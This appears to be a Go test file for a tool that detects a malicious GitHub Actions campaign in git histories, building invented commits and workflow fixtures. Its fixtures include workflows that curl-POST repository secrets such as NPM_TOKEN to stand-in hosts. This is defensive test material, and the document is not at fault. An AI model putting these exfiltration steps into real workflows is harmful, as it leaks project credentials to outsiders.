package detect

import (
	"cmp"
	"crypto/sha1"
	"fmt"
	"slices"
	"testing"
	"time"

	"pentimento/internal/campaign"
	"pentimento/internal/evidence"
)

const listed = ".github/workflows/github_actions_security.yml"

// evil is a version of the campaign's file that posts one secret to a host that no pack lists.
func evil(host string) string {
	return "name: Github Actions Security\non:\n  workflow_dispatch:\n  push:\njobs:\n  send-secrets:\n    runs-on: ubuntu-latest\n    steps:\n" +
		"      - run: |\n          curl -s -X POST -d 'NPM_TOKEN=${{ secrets.NPM_TOKEN }}' http://" + host + "\n"
}

// made is one commit of an invented history: its workflow files by path, with the texts' short names, and what else its tree holds.
type made struct {
	id      string
	parents []string
	message string
	files   map[string]string // path -> "evil1", "evil2", "plain", ...
	rest    string            // stands for everything else in the tree
	at      string            // committer date; one second after the one before where empty
	unseen  bool              // the commit was named and not had
	noTree  bool              // its trees were not had
	by      string            // its maker, where it is not the maintainer
	zone    string            // where it is not the usual one
	signed  bool
	after   int // commits that follow each, see cascade
}

// oid makes an object name of a short one.
func oid(kind, name string) evidence.OID {
	return evidence.OID(fmt.Sprintf("%x", sha1.Sum([]byte(kind+name))))
}

// invent turns commits into a history as the collector would store it.
func invent(t *testing.T, commits []made) *evidence.History {
	t.Helper()
	var facts []evidence.Commit
	var holdings []evidence.Holding
	var entries []evidence.WorkflowEntry
	clock := time.Date(2025, 9, 1, 21, 41, 48, 0, time.UTC)
	byID := map[string]made{}
	for _, m := range commits {
		byID[m.id] = m
		clock = clock.Add(time.Second)
		if m.at != "" {
			var err error
			if clock, err = time.Parse(time.RFC3339, m.at); err != nil {
				t.Fatal(err)
			}
		}
		if m.unseen {
			continue
		}
		who := evidence.Signature{Name: "A Maintainer", Email: "maintainer@example.invalid", Date: clock, Zone: cmp.Or(m.zone, "+0200")}
		if m.by != "" {
			who.Name, who.Email = m.by, m.by+"@example.invalid"
		}
		c := evidence.Commit{OID: oid("c", m.id), Tree: oid("t", fmt.Sprint(m.files, m.rest)), Author: who, Committer: who, Message: m.message, Signed: m.signed}
		for _, p := range m.parents {
			c.Parents = append(c.Parents, oid("c", p))
		}
		facts = append(facts, c)
		if m.noTree {
			continue
		}
		h := evidence.Holding{Commit: c.OID, Known: true}
		if len(m.files) > 0 {
			h.Workflows = oid("w", fmt.Sprint(m.files))
		}
		if len(m.parents) > 0 {
			first := byID[m.parents[0]]
			if fmt.Sprint(first.files) != fmt.Sprint(m.files) {
				h.RootChanges = append(h.RootChanges, ".github")
			}
			if first.rest != m.rest {
				h.RootChanges = append(h.RootChanges, "README.md")
			}
		}
		holdings = append(holdings, h)
		for path, name := range m.files {
			e := evidence.WorkflowEntry{Tree: h.Workflows, Path: path, Blob: oid("b", name), Mode: "100644"}
			if !slices.Contains(entries, e) {
				entries = append(entries, e)
			}
		}
	}
	return evidence.NewHistory(facts, holdings, entries)
}

// known are the findings that the invented versions evil1 and evil2 give, and quiet, which only the heuristic finds.
func known(t testing.TB) (map[evidence.OID]Finding, []campaign.Pack) {
	t.Helper()
	packs, err := campaign.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	packs = slices.DeleteFunc(packs, func(p campaign.Pack) bool { return p.Name != "ghostaction" })
	quiet := "on: push\njobs: {a: {runs-on: x, steps: [{run: \"curl -d 'A=${{ secrets.A }}&B=${{ secrets.B }}' https://drop.example.invalid\"}]}}\n"
	out := map[evidence.OID]Finding{}
	for _, f := range Versions([]Version{
		{Blob: oid("b", "evil1"), Paths: []string{listed}, Text: []byte(evil("192.0.2.1"))},
		{Blob: oid("b", "evil2"), Paths: []string{listed}, Text: []byte(evil("198.51.100.2"))},
		{Blob: oid("b", "quiet"), Paths: []string{".github/workflows/q.yml"}, Text: []byte(quiet)},
		{Blob: oid("b", "plain"), Paths: []string{listed}, Text: []byte("on: push\njobs: {a: {runs-on: x, steps: [{run: make}]}}\n")},
	}, packs) {
		out[f.Blob] = f
	}
	if len(out) != 3 {
		t.Fatalf("findings: %+v", out)
	}
	return out, packs
}

const (
	add     = "Add Github Actions Security workflow"
	update  = "Update Github Actions Security workflow"
	scan    = "Trigger security scan"
	revert1 = "Revert \"Add Github Actions Security workflow\"\n"
	revert2 = "Revert \"Trigger security scan\"\n"
)
